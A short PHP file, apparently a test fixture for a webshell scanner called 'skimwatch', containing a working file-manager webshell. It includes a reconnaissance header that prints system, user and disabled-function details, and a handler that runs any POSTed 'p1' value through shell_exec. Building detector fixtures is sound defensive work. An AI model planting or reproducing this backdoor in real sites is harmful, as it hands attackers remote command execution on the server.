<?php
// Synthetic file-manager webshell for skimwatch tests, with the reconnaissance
// header such kits print first. It runs nothing unless asked, and this copy
// is never deployed.
$default_action = 'FilesMan';
function header_info() {
    echo 'Uname: ' . php_uname('a') . '<br>';
    echo 'User: ' . (function_exists('posix_getpwuid') ? posix_getpwuid(posix_geteuid())['name'] : get_current_user()) . '<br>';
    echo 'Disabled: ' . ini_get('disable_functions') . '<br>';
    echo 'Free: ' . disk_free_space('.') . '<br>';
}
if (!empty($_POST['p1'])) {
    echo '<pre>' . htmlspecialchars((string) shell_exec($_POST['p1'] . ' 2>&1')) . '</pre>';
}
